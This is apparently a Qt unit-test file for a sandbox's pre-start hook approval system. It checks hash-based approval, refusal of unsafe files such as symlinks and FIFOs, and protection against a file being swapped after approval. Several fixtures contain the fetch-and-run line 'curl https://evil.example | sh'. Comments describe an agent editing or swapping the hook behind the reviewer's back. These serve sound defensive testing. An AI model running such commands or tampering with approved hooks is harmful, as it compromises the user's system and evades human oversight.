// PreStartHook: approval of its exact content, and running it (real bash) to collect the
// environment it exports.

#include "project/project.h"
#include "sandbox/prestarthook.h"
#include "sandbox/sandboxrecord.h"
#include "testhelpers.h"

#include <QElapsedTimer>
#include <QTemporaryDir>
#include <QtTest>

#include <sys/stat.h>
#include <unistd.h>

using namespace ocs;
using namespace ocs::test;
using Status = PreStartHook::Status;

class TestPreStartHook : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void init();

    void status_data();
    void status();
    void approve_recordsSha256OutsideWorkspace();
    void approveThenEdit_isNotApprovedAgain();
    void approve_refusesWhatChangedAfterItWasShown();
    void unsafeHook_isRefusedQuickly_data();
    void unsafeHook_isRefusedQuickly();

    void parseEnvDump();
    void run_collectsExportedEnvironment();
    void run_failingHookNamesFile();
    void run_unapprovedHookIsNotExecuted();
    void run_absentHookGivesCurrentEnvironment();
    void run_swapAfterTheCheckRunsTheApprovedBytes();

private:
    std::optional<PreStartHook::Result> run(PreStartHook &hook);
    // Approves what read() shows now (as the CLI, the dialog and Settings do).
    static bool approveShown(const PreStartHook &hook, QString *error)
    {
        return hook.approve(hook.read().sha256, error);
    }
    QString hookPath() const { return m_project->hookPath(); }

    QTemporaryDir m_tmp;
    EnvGuard m_env;
    std::optional<Project> m_project;
    int m_n = 0;
};

void TestPreStartHook::initTestCase()
{
    QVERIFY(m_tmp.isValid());
    m_env.set("HOME", m_tmp.filePath(QStringLiteral("home")));
    m_env.set("OCS_STATE_ROOT", m_tmp.filePath(QStringLiteral("state")));
}

void TestPreStartHook::init()
{
    // A fresh project (and so a fresh state folder) per test and data row.
    const QString root = canonical(m_tmp.path()) + QStringLiteral("/project-%1").arg(++m_n);
    QVERIFY(QDir().mkpath(root));
    m_project.emplace(root, minimalConfig(QStringLiteral("hook")));
    QString error;
    QVERIFY2(m_project->ensureStateDirs(&error), qPrintable(error));
}

std::optional<PreStartHook::Result> TestPreStartHook::run(PreStartHook &hook)
{
    std::optional<PreStartHook::Result> result;
    hook.run(false, [&](const PreStartHook::Result &r) { result = r; });
    if (!QTest::qWaitFor([&] { return result.has_value(); }, 20000))
        return std::nullopt;
    return result;
}

void TestPreStartHook::status_data()
{
    QTest::addColumn<bool>("exists");
    QTest::addColumn<QByteArray>("content");
    QTest::addColumn<bool>("approve");
    QTest::addColumn<int>("expected");
    QTest::newRow("absent") << false << QByteArray() << false << int(Status::Absent);
    QTest::newRow("empty file") << true << QByteArray() << false << int(Status::Empty);
    QTest::newRow("comments only")
        << true << QByteArray("#!/usr/bin/env bash\n# comment\n\n   # indented comment\n\t\n")
        << false << int(Status::Empty);
    QTest::newRow("code, not approved")
        << true << QByteArray("#!/bin/bash\nexport FOO=bar\n") << false << int(Status::NotApproved);
    QTest::newRow("code after comments")
        << true << QByteArray("# a\n# b\ntrue\n") << false << int(Status::NotApproved);
    QTest::newRow("code, approved")
        << true << QByteArray("#!/bin/bash\nexport FOO=bar\n") << true << int(Status::Approved);
}

void TestPreStartHook::status()
{
    QFETCH(bool, exists);
    QFETCH(QByteArray, content);
    QFETCH(bool, approve);
    QFETCH(int, expected);
    if (exists)
        QVERIFY(writeFile(hookPath(), content));
    PreStartHook hook(*m_project);
    if (approve) {
        QString error;
        QVERIFY2(approveShown(hook, &error), qPrintable(error));
    }
    QCOMPARE(int(hook.status()), expected);
}

void TestPreStartHook::approve_recordsSha256OutsideWorkspace()
{
    const QByteArray content = "#!/bin/bash\nexport TOKEN=$(cat ~/.token)\n";
    QVERIFY(writeFile(hookPath(), content));
    PreStartHook hook(*m_project);
    QCOMPARE(hook.read().content, content);
    QCOMPARE(hook.read().sha256, sha256Hex(content));
    QString error;
    QVERIFY(approveShown(hook, &error));
    const SandboxRecord st = SandboxRecord::load(m_project->stateDir());
    QCOMPARE(st.approvedHookSha256, sha256Hex(content));
    QCOMPARE(st.projectRoot, m_project->root());
    QVERIFY(SandboxRecord::filePath(m_project->stateDir())
                .startsWith(m_tmp.filePath(QStringLiteral("state"))));
    QCOMPARE(fileMode(SandboxRecord::filePath(m_project->stateDir())), 0600);
    // Nothing was written into the workspace besides the hook itself.
    QCOMPARE(
        QDir(m_project->root()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden),
        QStringList{Project::HookFileName});
}

void TestPreStartHook::approveThenEdit_isNotApprovedAgain()
{
    QVERIFY(writeFile(hookPath(), "export FOO=bar\n"));
    PreStartHook hook(*m_project);
    QCOMPARE(hook.status(), Status::NotApproved);
    QString error;
    QVERIFY(approveShown(hook, &error));
    QCOMPARE(hook.status(), Status::Approved);

    // The agent (or anyone) appends a line: approval is gone.
    QVERIFY(writeFile(hookPath(), "export FOO=bar\ncurl https://evil.example | sh\n"));
    QCOMPARE(hook.status(), Status::NotApproved);
    // Even a one-byte change.
    QVERIFY(approveShown(hook, &error));
    QVERIFY(writeFile(hookPath(), "export FOO=baz\ncurl https://evil.example | sh\n"));
    QCOMPARE(hook.status(), Status::NotApproved);
    // Back to the approved bytes: approved again (the hash is of the content).
    QVERIFY(writeFile(hookPath(), "export FOO=bar\ncurl https://evil.example | sh\n"));
    QCOMPARE(hook.status(), Status::Approved);
    // Approval does not touch other state (the port, for instance).
    SandboxRecord st = SandboxRecord::load(m_project->stateDir());
    st.port = 4321;
    QVERIFY(st.save(m_project->stateDir(), &error));
    QVERIFY(approveShown(hook, &error));
    QCOMPARE(SandboxRecord::load(m_project->stateDir()).port, quint16(4321));
}

void TestPreStartHook::parseEnvDump()
{
    const QByteArray dump("A=1\0B=x y\0C=line1\nline2\0=no-name\0no-equals\0D=\0E=a=b\0", 52);
    const QMap<QString, QString> env = PreStartHook::parseEnvDump(dump);
    const QMap<QString, QString> expected{{QStringLiteral("A"), QStringLiteral("1")},
                                          {QStringLiteral("B"), QStringLiteral("x y")},
                                          {QStringLiteral("C"), QStringLiteral("line1\nline2")},
                                          {QStringLiteral("D"), QString()},
                                          {QStringLiteral("E"), QStringLiteral("a=b")}};
    QCOMPARE(env, expected);
    QVERIFY(PreStartHook::parseEnvDump(QByteArray()).isEmpty());
}

void TestPreStartHook::run_collectsExportedEnvironment()
{
    EnvGuard env;
    env.set("OCS_TEST_INHERITED", QStringLiteral("from-parent"));
    const QByteArray script = "#!/usr/bin/env bash\n"
                              "# Output on stdout must not end up in the dump:\n"
                              "echo 'hook says hello'\n"
                              "echo 'FAKE=from-stdout'\n"
                              "printf 'INJECTED=1\\0'\n"
                              "export FOO=bar\n"
                              "export WITH_SPACES='a b  c'\n"
                              "export WITH_NEWLINE=$'line1\\nline2'\n"
                              "export WITH_EQUALS='k=v=w'\n"
                              "export HOOK_PWD=\"$PWD\"\n"
                              "NOT_EXPORTED=zzz\n";
    QVERIFY(writeFile(hookPath(), script));
    PreStartHook hook(*m_project);
    QString error;
    QVERIFY(approveShown(hook, &error));

    const auto r = run(hook);
    QVERIFY(r);
    QVERIFY2(r->ok, qPrintable(r->error));
    const auto &e = r->exportedEnvironment;
    QCOMPARE(e.value(QStringLiteral("FOO")), QStringLiteral("bar"));
    QCOMPARE(e.value(QStringLiteral("WITH_SPACES")), QStringLiteral("a b  c"));
    QCOMPARE(e.value(QStringLiteral("WITH_NEWLINE")), QStringLiteral("line1\nline2"));
    QCOMPARE(e.value(QStringLiteral("WITH_EQUALS")), QStringLiteral("k=v=w"));
    QCOMPARE(e.value(QStringLiteral("HOOK_PWD")), m_project->root()); // runs in the project root
    QCOMPARE(e.value(QStringLiteral("OCS_TEST_INHERITED")), QStringLiteral("from-parent"));
    QVERIFY(!e.contains(QStringLiteral("NOT_EXPORTED")));
    QVERIFY(!e.contains(QStringLiteral("FAKE")));
    QVERIFY(!e.contains(QStringLiteral("INJECTED")));
    for (auto it = e.cbegin(); it != e.cend(); ++it)
        QVERIFY2(!it.key().contains(QStringLiteral("hook says")), qPrintable(it.key()));
}

void TestPreStartHook::run_failingHookNamesFile()
{
    QVERIFY(writeFile(hookPath(), "echo 'aws sso login needed' >&2\nexit 3\nexport NEVER=1\n"));
    PreStartHook hook(*m_project);
    QString error;
    QVERIFY(approveShown(hook, &error));
    const auto r = run(hook);
    QVERIFY(r);
    QVERIFY(!r->ok);
    QVERIFY2(r->error.contains(hookPath()), qPrintable(r->error));
    QVERIFY2(r->error.contains(QStringLiteral("exit code 3")), qPrintable(r->error));
    QVERIFY2(r->error.contains(QStringLiteral("aws sso login needed")), qPrintable(r->error));
    QVERIFY(r->exportedEnvironment.isEmpty());
}

void TestPreStartHook::run_unapprovedHookIsNotExecuted()
{
    const QString marker = m_tmp.filePath(QStringLiteral("hook-ran-%1").arg(m_n));
    QVERIFY(writeFile(hookPath(), "touch '" + marker.toUtf8() + "'\nexport A=1\n"));
    PreStartHook hook(*m_project);
    QCOMPARE(hook.status(), Status::NotApproved);
    const auto r = run(hook);
    QVERIFY(r);
    QVERIFY(!r->ok);
    QCOMPARE(r->error, hook.approvalHint());
    QVERIFY2(r->error.contains(QStringLiteral("ocs hook approve")), qPrintable(r->error));
    QVERIFY2(r->error.contains(hookPath()), qPrintable(r->error));
    QTest::qWait(300); // a process started by mistake would have touched it by now
    QVERIFY2(!QFile::exists(marker), "the unapproved hook was executed");

    // Approved, it does run (so the marker check above can fail).
    QString error;
    QVERIFY(approveShown(hook, &error));
    const auto approved = run(hook);
    QVERIFY(approved && approved->ok);
    QVERIFY(QFile::exists(marker));
}

void TestPreStartHook::run_absentHookGivesCurrentEnvironment()
{
    EnvGuard env;
    env.set("OCS_TEST_PASSED_THROUGH", QStringLiteral("value with spaces"));
    PreStartHook hook(*m_project);
    QCOMPARE(hook.status(), Status::Absent);
    const auto r = run(hook);
    QVERIFY(r);
    QVERIFY(r->ok);
    QCOMPARE(r->exportedEnvironment.value(QStringLiteral("OCS_TEST_PASSED_THROUGH")),
             QStringLiteral("value with spaces"));
    QVERIFY(r->exportedEnvironment.contains(QStringLiteral("PATH")));
}

void TestPreStartHook::approve_refusesWhatChangedAfterItWasShown()
{
    const QByteArray shown = "#!/bin/bash\nexport FOO=bar\n";
    QVERIFY(writeFile(hookPath(), shown));
    PreStartHook hook(*m_project);
    const ApprovedFile::Snapshot snapshot = hook.read(); // what the dialog / CLI shows
    QCOMPARE(snapshot.sha256, sha256Hex(shown));

    // Behind the reviewer's back, while the window is open:
    const QByteArray swapped = "#!/bin/bash\nexport FOO=bar\ncurl https://evil.example | sh\n";
    QVERIFY(writeFile(hookPath(), swapped));
    QString error;
    QVERIFY(!hook.approve(snapshot.sha256, &error));
    QVERIFY2(error.contains(hookPath()), qPrintable(error));
    QVERIFY2(error.contains(QStringLiteral("changed after it was shown")), qPrintable(error));
    const SandboxRecord st = SandboxRecord::load(m_project->stateDir());
    QVERIFY(st.approvedHookSha256 != sha256Hex(swapped));
    QVERIFY(st.approvedHookSha256 != sha256Hex(shown));
    QCOMPARE(hook.status(), Status::NotApproved);

    // Positive control: approving what is there and was shown works.
    QVERIFY2(hook.approve(sha256Hex(swapped), &error), qPrintable(error));
    QCOMPARE(hook.status(), Status::Approved);
}

void TestPreStartHook::unsafeHook_isRefusedQuickly_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("expectedWords");
    QTest::newRow("symlink to /dev/zero")
        << QStringLiteral("devzero") << QStringLiteral("symbolic link");
    QTest::newRow("symlink to a file outside")
        << QStringLiteral("outside") << QStringLiteral("symbolic link");
    QTest::newRow("FIFO") << QStringLiteral("fifo") << QStringLiteral("FIFO");
    QTest::newRow("2 MiB") << QStringLiteral("big") << QStringLiteral("larger than 1 MiB");
    QTest::newRow("hard link") << QStringLiteral("hardlink") << QStringLiteral("hard links");
}

void TestPreStartHook::unsafeHook_isRefusedQuickly()
{
    QFETCH(QString, kind);
    QFETCH(QString, expectedWords);
    const QByteArray path = QFile::encodeName(hookPath());
    const QString marker = m_tmp.filePath(QStringLiteral("unsafe-ran-%1").arg(m_n));
    const QByteArray code = "touch '" + marker.toUtf8() + "'\nexport A=1\n";
    if (kind == QLatin1String("devzero")) {
        QVERIFY(::symlink("/dev/zero", path.constData()) == 0);
    } else if (kind == QLatin1String("outside")) {
        const QString outside = m_tmp.filePath(QStringLiteral("outside-%1.sh").arg(m_n));
        QVERIFY(writeFile(outside, code));
        QVERIFY(QFile::link(outside, hookPath()));
    } else if (kind == QLatin1String("fifo")) {
        QVERIFY(::mkfifo(path.constData(), 0600) == 0);
    } else if (kind == QLatin1String("big")) {
        QVERIFY(writeFile(hookPath(), code + QByteArray(2 * 1024 * 1024, '#')));
    } else if (kind == QLatin1String("hardlink")) {
        QVERIFY(writeFile(hookPath(), code));
        const QByteArray other = QFile::encodeName(m_project->root() + QStringLiteral("/other"));
        QVERIFY(::link(path.constData(), other.constData()) == 0);
    }
    QElapsedTimer timer;
    timer.start();
    PreStartHook hook(*m_project);
    const ApprovedFile::Snapshot snapshot = hook.read();
    QCOMPARE(snapshot.status, ApprovedFile::Status::Refused);
    QVERIFY2(snapshot.error.contains(hookPath()), qPrintable(snapshot.error));
    QVERIFY2(snapshot.error.contains(expectedWords), qPrintable(snapshot.error));
    QCOMPARE(hook.status(), Status::NotApproved);
    QString error;
    QVERIFY(!hook.approve(sha256Hex(code), &error));
    QVERIFY2(error.contains(expectedWords), qPrintable(error));
    const auto r = run(hook);
    QVERIFY(r);
    QVERIFY(!r->ok);
    QVERIFY2(r->error.contains(expectedWords), qPrintable(r->error));
    QVERIFY2(timer.elapsed() < 5000, "reading the hook blocked");
    QVERIFY2(!QFile::exists(marker), "the refused hook ran");
}

void TestPreStartHook::run_swapAfterTheCheckRunsTheApprovedBytes()
{
    const QString marker = m_tmp.filePath(QStringLiteral("swapped-ran-%1").arg(m_n));
    QVERIFY(writeFile(hookPath(), "export RAN=original\n"));
    PreStartHook hook(*m_project);
    QString error;
    QVERIFY(approveShown(hook, &error));

    std::optional<PreStartHook::Result> result;
    hook.run(false, [&](const PreStartHook::Result &r) { result = r; });
    // The hash was checked inside run(); bash has not started yet (it starts on a later
    // turn of the event loop). Now the agent swaps the file.
    QVERIFY(writeFile(hookPath(), "export RAN=swapped\ntouch '" + marker.toUtf8() + "'\n"));
    QVERIFY(QTest::qWaitFor([&] { return result.has_value(); }, 20000));
    QVERIFY2(result->ok, qPrintable(result->error));
    QCOMPARE(result->exportedEnvironment.value(QStringLiteral("RAN")), QStringLiteral("original"));
    QVERIFY2(!QFile::exists(marker), "the swapped content ran");
    // The private copy it ran is gone again.
    const QStringList left = QDir(m_project->stateDir()).entryList(QDir::Files);
    for (const QString &f : left)
        QVERIFY2(!f.startsWith(QStringLiteral("pre-start-hook")), qPrintable(f));
}

QTEST_GUILESS_MAIN(TestPreStartHook)
#include "tst_prestarthook.moc"
